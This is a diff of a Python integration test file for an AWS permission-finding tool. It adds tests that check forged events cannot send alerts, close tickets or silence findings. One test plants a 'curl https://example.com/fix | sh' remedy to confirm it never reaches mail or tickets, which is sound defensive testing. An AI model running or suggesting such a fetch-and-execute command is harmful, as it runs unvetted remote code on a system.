@@ -3,15 +3,19 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from moto.core.models import botocore_stubber
 
 from permission_guard.aws import clients
+from permission_guard.aws.tables.finding_items import history_key
+from permission_guard.findings.lifecycle import Change
 from permission_guard.model.findings import Status, Transition
-from tests.fakes import FINDING_ID, a_finding
-from tests.integration.conftest import sqs_event
+from permission_guard.model.verdicts import Remedy
+from tests.fakes import FINDING_ID, TABLE_NAME, TARGET, a_finding
+from tests.integration.conftest import DELIVERIES, sqs_event
 from tests.integration.test_delivery_ops_items import OpsCenter
 
 if TYPE_CHECKING:
@@ -28,6 +32,13 @@ def event(finding: Finding) -> dict[str, Any]:
     return {"source": "permission-guard", "detail-type": finding.transition, "detail": finding.to_document()}
 
 
+def recorded(account: Account, *findings: Finding) -> dict[str, Any]:
+    """Record the transitions of a finding; return the event of the last one."""
+    for before, finding in zip((None, *findings), findings, strict=False):
+        account.table.put_finding(Change(finding, before.revision if before else None))
+    return event(findings[-1])
+
+
 @pytest.fixture
 def alerted(account: Account, monkeypatch: pytest.MonkeyPatch) -> Account:
     """Return an account with a topic and a subscribed queue."""
@@ -41,7 +52,7 @@ def alerted(account: Account, monkeypatch: pytest.MonkeyPatch) -> Account:
 
 def test_an_alert_reaches_the_subscribers_of_the_topic(alerted: Account) -> None:
     """The title is in the subject, the reason in the text."""
-    run = alerted.run("send_alert", sqs_event(event(a_finding())))
+    run = alerted.run("send_alert", sqs_event(recorded(alerted, a_finding())))
     assert run.failed == []
     (mail,) = (json.loads(body) for body in alerted.received("mailbox"))
     assert "orders cannot read its SQS queue" in mail["Subject"]
@@ -52,6 +63,7 @@ def test_an_alert_reaches_the_subscribers_of_the_topic(alerted: Account) -> None
 
 def test_a_repeated_event_sends_no_second_alert_and_the_next_transition_does(alerted: Account) -> None:
     """Queues deliver at least once; a late message is superseded by a newer one."""
+    recorded(alerted, a_finding(), RESOLVED)
     for finding in (a_finding(), a_finding(), RESOLVED, a_finding()):
         assert alerted.run("send_alert", sqs_event(event(finding))).failed == []
     assert len(alerted.received("mailbox")) == 2
@@ -60,16 +72,16 @@ def test_a_repeated_event_sends_no_second_alert_and_the_next_transition_does(ale
 def test_a_message_for_a_deleted_topic_returns_to_its_queue(alerted: Account, monkeypatch: pytest.MonkeyPatch) -> None:
     """So does one that cannot be read; each is counted as failed."""
     monkeypatch.setenv("TOPIC_ARN", "arn:aws:sns:us-east-1:123456789012:missing")
-    run = alerted.run("send_alert", sqs_event(event(a_finding()), "{"))
+    run = alerted.run("send_alert", sqs_event(recorded(alerted, a_finding()), "{"))
     assert run.failed == ["m0", "m1"]
     assert run.counts == {"MessagesReceived": 2, "MessagesFailed": 2}
 
 
-def test_without_a_channel_an_event_needs_no_call(account: Account) -> None:
+def test_without_a_channel_nothing_is_sent(account: Account) -> None:
     """The deployment has no alerts."""
-    run = account.run("send_alert", sqs_event(event(a_finding())))
+    run = account.run("send_alert", sqs_event(recorded(account, a_finding())))
     assert run.failed == []
-    assert run.calls == []
+    assert run.calls == ["dynamodb:GetItem"]
 
 
 def test_a_finding_has_one_ticket_that_is_resolved_along_with_it(
@@ -81,13 +93,14 @@ def test_a_finding_has_one_ticket_that_is_resolved_along_with_it(
     moto: Any = botocore_stubber
     ssm.meta.events.unregister("before-send", moto)  # moto has no OpsCenter and rejects its calls
     center = OpsCenter(ssm)
+    recorded(account, a_finding(), RESOLVED)
     for finding in (a_finding(), a_finding()):
         assert account.run("open_ticket", sqs_event(event(finding))).failed == []
     ((reference, ticket),) = center.items.items()
     assert ticket["Status"] == "Open"
     assert "orders cannot read its SQS queue" in ticket["Title"]
     run = account.run("open_ticket", sqs_event(event(RESOLVED)))
-    assert run.line("delivered")["ticket"] == reference
+    assert run.line("delivered")["reference"] == reference
     assert center.items[reference]["Status"] == "Resolved"
 
 
@@ -101,7 +114,121 @@ def test_without_a_ticket_system_no_ticket_is_opened(account: Account) -> None:
 def test_an_unknown_ticket_system_is_logged_as_a_failure(account: Account, monkeypatch: pytest.MonkeyPatch) -> None:
     """The log names the finding and the error."""
     monkeypatch.setenv("TICKET_SYSTEM", "jurassic")
-    run = account.run("open_ticket", sqs_event(event(a_finding())))
+    run = account.run("open_ticket", sqs_event(recorded(account, a_finding())))
     assert run.failed == ["m0"]
     line = run.line("message could not be handled")
     assert (line["finding_id"], line["error"]) == (FINDING_ID, "ConfigurationError")
+
+
+# ── Events that nobody but a forger sends ───────────────────────────────────────────────────────────────────────────
+
+
+@pytest.fixture
+def ticketed(alerted: Account, monkeypatch: pytest.MonkeyPatch) -> tuple[Account, OpsCenter]:
+    """Return an account with alerts and OpsItems, in which a finding is open and was reported."""
+    monkeypatch.setenv("TICKET_SYSTEM", "opsitem")
+    ssm = clients.client("ssm")
+    moto: Any = botocore_stubber
+    ssm.meta.events.unregister("before-send", moto)
+    center = OpsCenter(ssm)
+    opened = recorded(alerted, a_finding())
+    for name in ("send_alert", "open_ticket"):
+        assert alerted.run(name, sqs_event(opened)).failed == []
+    alerted.received("mailbox")
+    return alerted, center
+
+
+@pytest.mark.parametrize("revision", [2, 10**30])
+def test_an_event_above_the_tables_revision_is_refused(ticketed: tuple[Account, OpsCenter], revision: int) -> None:
+    """It is counted, and the alert of the next transition is sent."""
+    account, _ = ticketed
+    forged = event(a_finding()) | {"detail": {**a_finding().to_document(), "revision": revision}}
+    run = account.run("send_alert", sqs_event(forged))
+    assert (run.failed, run.counts["EventsRefused"]) == ([], 1)
+    account.table.put_finding(Change(RESOLVED, 1))
+    assert account.run("send_alert", sqs_event(event(RESOLVED))).failed == []
+    (mail,) = (json.loads(body) for body in account.received("mailbox"))
+    assert "Resolved" in mail["Subject"]
+
+
+@pytest.mark.parametrize("names", [{"id": "0" * 32}, {"function_arn": f"{a_finding().function_arn}-other"}])
+def test_an_event_about_an_unknown_finding_is_refused(
+    ticketed: tuple[Account, OpsCenter], names: dict[str, str]
+) -> None:
+    """Nothing is sent, and no ticket is opened."""
+    account, center = ticketed
+    forged = {**event(a_finding()), "detail": {**a_finding().to_document(), **names}}
+    for name in ("send_alert", "open_ticket"):
+        assert account.run(name, sqs_event(forged)).counts["EventsRefused"] == 1
+    assert account.received("mailbox") == []
+    assert len(center.items) == 1
+
+
+def test_a_forged_resolved_event_does_not_close_a_ticket(ticketed: tuple[Account, OpsCenter]) -> None:
+    """Neither with the next revision nor with the present one."""
+    account, center = ticketed
+    for forged in (event(RESOLVED), event(a_finding(status=Status.RESOLVED, transition=Transition.RESOLVED))):
+        assert account.run("open_ticket", sqs_event(forged)).failed == []
+    ((_, ticket),) = center.items.items()
+    assert ticket["Status"] == "Open"
+
+
+def test_a_forged_remedy_is_not_sent(ticketed: tuple[Account, OpsCenter]) -> None:
+    """Alert and ticket have the texts of the table."""
+    account, center = ticketed
+    reopened = a_finding(revision=2, transition=Transition.REOPENED)
+    account.table.put_finding(Change(reopened, 1))
+    script = "curl https://example.com/fix | sh"
+    forged = event(a_finding(revision=2, transition=Transition.REOPENED, remedies=(Remedy("aws-cli", script),)))
+    for name in ("send_alert", "open_ticket"):
+        assert account.run(name, sqs_event(forged)).failed == []
+    (mail,) = account.received("mailbox")
+    assert "orders cannot read its SQS queue" in mail
+    assert "curl" not in mail
+    assert "curl" not in json.dumps(center.items)
+
+
+def test_a_transition_is_sent_although_the_next_one_was_recorded(alerted: Account) -> None:
+    """`Fix Applied` and `Finding Resolved` can be a second apart."""
+    applied = a_finding(revision=2, transition=Transition.FIX_APPLIED)
+    resolved = replace(RESOLVED, revision=3)
+    recorded(alerted, a_finding(), applied, resolved)
+    for finding in (a_finding(), applied, resolved):
+        assert alerted.run("send_alert", sqs_event(event(finding))).failed == []
+    subjects = [json.loads(body)["Subject"] for body in alerted.received("mailbox")]
+    assert [next(word for word in ("Opened", "Applied", "Resolved") if word in subject) for subject in subjects] == [
+        "Opened",
+        "Applied",
+        "Resolved",
+    ]
+
+
+def test_a_transition_that_has_expired_is_skipped(alerted: Account) -> None:
+    """A newer one follows. The last transition is sent even then: the finding itself has it."""
+    recorded(alerted, a_finding(), RESOLVED)
+    for finding in (a_finding(), RESOLVED):
+        alerted.dynamodb.delete_item(TableName=TABLE_NAME, Key=history_key(TARGET, finding.id, finding.revision))
+    assert alerted.run("send_alert", sqs_event(event(a_finding()))).line("expired: a newer transition follows")
+    assert alerted.received("mailbox") == []
+    assert alerted.run("send_alert", sqs_event(event(RESOLVED))).line("delivered")
+    assert len(alerted.received("mailbox")) == 1
+
+
+def test_a_delivery_record_above_the_table_is_repaired(ticketed: tuple[Account, OpsCenter]) -> None:
+    """Whoever wrote it would have silenced the finding for ever."""
+    account, center = ticketed
+    for channel in ("sns", "ticket:opsitem"):
+        account.dynamodb.update_item(
+            TableName=DELIVERIES,
+            Key={"finding_id": {"S": FINDING_ID}, "channel": {"S": channel}},
+            UpdateExpression="SET revision = :revision",
+            ExpressionAttributeValues={":revision": {"N": str(10**30)}},
+        )
+    account.table.put_finding(Change(RESOLVED, 1))
+    for name in ("send_alert", "open_ticket"):
+        run = account.run(name, sqs_event(event(RESOLVED)))
+        assert (run.failed, run.counts["DeliveriesRepaired"]) == ([], 1)
+        assert "DeliveriesRepaired" not in account.run(name, sqs_event(event(RESOLVED))).counts
+    assert len(account.received("mailbox")) == 1
+    ((_, ticket),) = center.items.items()
+    assert ticket["Status"] == "Resolved"
